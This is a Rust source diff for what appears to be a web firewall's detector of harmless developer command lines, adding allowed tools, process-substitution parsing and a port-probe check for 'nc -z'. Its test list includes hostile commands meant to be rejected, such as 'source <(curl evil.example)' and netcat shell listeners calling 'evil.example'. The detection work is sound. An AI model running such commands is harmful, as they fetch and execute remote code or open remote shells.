@@ -15,8 +15,8 @@ const MAX_SCRIPT: usize = 1000;
 static FIRST: Words = LazyLock::new(|| {
     words(
         "./configure ./gradlew adb ansible ansible-playbook apt apt-get artisan brew bundle \
-         cargo certbot choco cmake composer conda createdb cross-env dism dnf docker \
-         docker-compose dotnet dpkg fastboot ffmpeg flutter gem git go gradle gunzip gzip \
+         cargo certbot choco cmake comm composer conda createdb cross-env dism dnf docker \
+         docker-compose dotnet dpkg du fastboot ffmpeg flutter gem git go gradle gunzip gzip \
          helm heroku iptables kill journalctl kubectl lsof make minikube mongodump \
          mongorestore mvn mysqladmin mysqldump ng npm npx pacman pg_dump pg_restore pgrep pip \
          pip3 pipx pkill pnpm podman poetry psql rails rake rsync rustc rustup sam scp sfc \
@@ -33,9 +33,9 @@ static FIRST: Words = LazyLock::new(|| {
 /// What such a line goes on with.
 static NEXT: Words = LazyLock::new(|| {
     words(
-        "[ [[ awk break cd chmod chown continue cp cut date done echo exit explorer.exe \
-         export false fi grep head jq kill less ln mkdir more mv popd printf pushd pwd read \
-         sed set sleep sort source tail tee test touch tr true uniq wc xargs { }",
+        "[ [[ awk break cd chmod chown continue cp cut date df done echo exit explorer.exe \
+         export false fi findstr free grep head jq kill less ln mkdir more mv netstat paste popd \
+         printf pushd pwd read sed set sleep sort ss source tail tee test touch tr true uniq wc xargs { }",
     )
 });
 /// Words before a command of the same line.
@@ -73,7 +73,6 @@ static RUNNING: Needles<'static> = Needles::new(&[
     b"\\!",
     b"load_file",
     b"copy ",
-    b"<(",
     b">(",
     b"$'",
     b"${ifs",
@@ -82,7 +81,7 @@ static RUNNING: Needles<'static> = Needles::new(&[
 ]);
 
 /// Whether the whole text is such a command line.
-pub(super) fn is_work(text: &[u8]) -> bool {
+pub(in crate::waf) fn is_work(text: &[u8]) -> bool {
     let text = trim(text);
     if text.len() > MAX_SCRIPT || RUNNING.find(text, 0).is_some() || SEVERE.find(text, 0).is_some()
     {
@@ -107,7 +106,7 @@ pub(super) fn is_work(text: &[u8]) -> bool {
         let byte = at(text, index);
         let is_end = index == text.len();
         let is_split = open == 0 && matches!(byte, b';' | b'|' | b'&' | b'\n' | b'`')
-            || open != b'\'' && byte == b'$' && at(text, index + 1) == b'('
+            || open != b'\'' && matches!(byte, b'$' | b'<') && at(text, index + 1) == b'('
             || open == 0 && matches!(byte, b')' | b'{' | b'}');
         if is_end || is_split {
             let command = trim(span(text, start, index));
@@ -118,7 +117,7 @@ pub(super) fn is_work(text: &[u8]) -> bool {
                     return false;
                 }
                 is_first = false;
-                start = index + 1 + usize::from(byte == b'$');
+                start = index + 1 + usize::from(matches!(byte, b'$' | b'<'));
             }
         } else if matches!(byte, b'\'' | b'"') && (open == 0 || open == byte) {
             open = if open == 0 { byte } else { 0 };
@@ -144,6 +143,7 @@ fn works(command: &[u8], is_first: bool) -> bool {
         || is_filter(command, word)
         || is_edit(command, word)
         || is_remote(command)
+        || is_knock(command, word)
         || FIRST.contains(word) && (has_argument || !is_first);
     if is_first {
         return is_task || is_led && NEXT.contains(word) || word == b"curl" && is_request(command);
@@ -298,6 +298,20 @@ fn is_print(command: &[u8]) -> bool {
 /// Calls of a program of one line that works something out: to print a word is what probes do.
 const MIN_CALLS: usize = 2;
 
+/// `nc -zv db.internal 5432`: whether a port answers, and nothing sent.
+fn is_knock(command: &[u8], word: &[u8]) -> bool {
+    let mut words = command
+        .split(|byte| is_space(*byte))
+        .filter(|word| !word.is_empty())
+        .skip(1);
+    let is_plain = |word: &[u8]| word.iter().all(|byte| is_word(*byte) || *byte == b'.');
+    word == b"nc"
+        && words
+            .next()
+            .is_some_and(|option| matches!(option, b"-z" | b"-zv" | b"-vz"))
+        && words.all(is_plain)
+}
+
 /// Words before the host of a remote command: `-L 5432:localhost:5432 -p 22`.
 const MAX_OPTIONS: usize = 6;
 
@@ -360,6 +374,9 @@ mod tests {
             "sed -i 's/a/b/' $(grep -rl a .)",
             "ssh -l 5432:localhost:5432 ann@db.example -n & psql -h localhost -c \"select now()\"",
             "kill -9 $(lsof -t -i:3000)",
+            "nc -zv db.internal 5432",
+            "comm -12 <(sort a) <(sort b)",
+            "taskkill /f /im node.exe\nnetstat -ano | findstr :3000",
             "ps aux | grep node | awk '{print $2}' | xargs kill -9",
             "curl -x post http://localhost:8000/api -h \"accept: */*\" -d '{\"a\":1}'",
         ] {
@@ -377,6 +394,10 @@ mod tests {
             "python3 -c 'print(1)'",
             "find . -name x | xargs sh -c 'id'",
             "git log | sh -",
+            "git pull; source <(curl evil.example)",
+            "nc -lvz 4444 -e sh",
+            "nc evil.example 4444",
+            "nc -z a 1; id",
             "git log | perl -ne 'print `id`'",
             "git log | bash -",
             "python3 -c \"import os; print(os.popen('ls').read())\"",
